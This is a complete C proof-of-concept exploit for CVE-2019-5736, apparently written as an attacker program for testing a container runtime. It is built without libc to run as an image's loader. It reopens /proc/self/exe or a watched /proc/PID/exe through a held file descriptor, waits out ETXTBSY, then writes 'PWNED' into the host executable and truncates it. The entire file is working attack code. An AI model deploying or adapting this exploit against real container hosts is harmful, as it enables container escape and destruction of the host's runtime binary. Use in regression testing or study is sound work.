/* An attacker that wants to overwrite the program a process is run from (CVE-2019-5736).
 *
 *   overwrite watch /proc/PID/exe   opens it, waits until the process is gone, then writes to it
 *   overwrite (anything else)       opens /proc/self/exe, becomes another program, then writes to it
 *
 * No C library: as the "dynamic loader" of an image it is run inside a foreign program's process.
 * gcc -static-pie -nostdlib -ffreestanding -fno-stack-protector
 */
static long call(long number, long a, long b, long c, long d)
{
    register long fourth __asm__("r10") = d;
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth)
                     : "rcx", "r11", "memory");
    return result;
}

enum { READ, WRITE, OPEN, CLOSE, DUP2 = 33, NANOSLEEP = 35, EXECVE = 59, FTRUNCATE = 77, EXIT = 60 };

static void say(const char *what, long result)
{
    char line[64], digits[8];
    int length = 0, count = 0;
    while (*what)
        line[length++] = *what++;
    line[length++] = ' ';
    for (long rest = result < 0 ? -result : 0; rest || !count; rest /= 10)
        digits[count++] = '0' + rest % 10;
    while (count)
        line[length++] = digits[--count];
    line[length++] = '\n';
    call(WRITE, 1, (long)line, length, 0);
}

static int same(const char *one, const char *other)
{
    while (*one && *one == *other)
        one++, other++;
    return *one == *other;
}

/* Descriptor 9 is the program; nothing runs it any more. */
static void overwrite(int patience)
{
    long fd, moment[2] = {0, 5000000};
    /* ETXTBSY: the last who executes it is not quite gone */
    while ((fd = call(OPEN, (long)"/proc/self/fd/9", 1, 0, 0)) == -26 && patience--)
        call(NANOSLEEP, (long)moment, 0, 0, 0);
    say("open", fd);
    if (fd >= 0) {
        say("write", call(WRITE, fd, (long)"PWNED", 5, 0));
        say("truncate", call(FTRUNCATE, fd, 0, 0, 0));
    }
    call(EXIT, 0, 0, 0, 0);
}

__attribute__((used)) static void begin(long *stack)
{
    long count = stack[0];
    char **words = (char **)(stack + 1);
    long moment[2] = {0, 5000000};
    if (count > 1 && same(words[1], "second"))
        overwrite(100);
    if (count > 2 && same(words[1], "watch")) {
        long fd = call(OPEN, (long)words[2], 0, 0, 0);
        say("opened", fd);
        if (fd < 0)
            call(EXIT, 1, 0, 0, 0);
        call(DUP2, fd, 9, 0, 0);
        call(CLOSE, fd, 0, 0, 0);
        say("busy", call(OPEN, (long)words[2], 1, 0, 0));
        while ((fd = call(OPEN, (long)words[2], 0x200000, 0, 0)) >= 0) {
            call(CLOSE, fd, 0, 0, 0);
            call(NANOSLEEP, (long)moment, 0, 0, 0);
        }
        overwrite(10000);
    }
    char *again[] = {"overwrite", "second", 0};
    long fd = call(OPEN, (long)"/proc/self/exe", 0, 0, 0);
    call(DUP2, fd, 9, 0, 0);
    call(EXECVE, (long)"/overwrite", (long)again, 0, 0);
    say("lost", -1);
    call(EXIT, 2, 0, 0, 0);
}

__attribute__((naked)) void _start(void)
{
    __asm__ volatile("mov %rsp, %rdi; and $-16, %rsp; call begin");
}
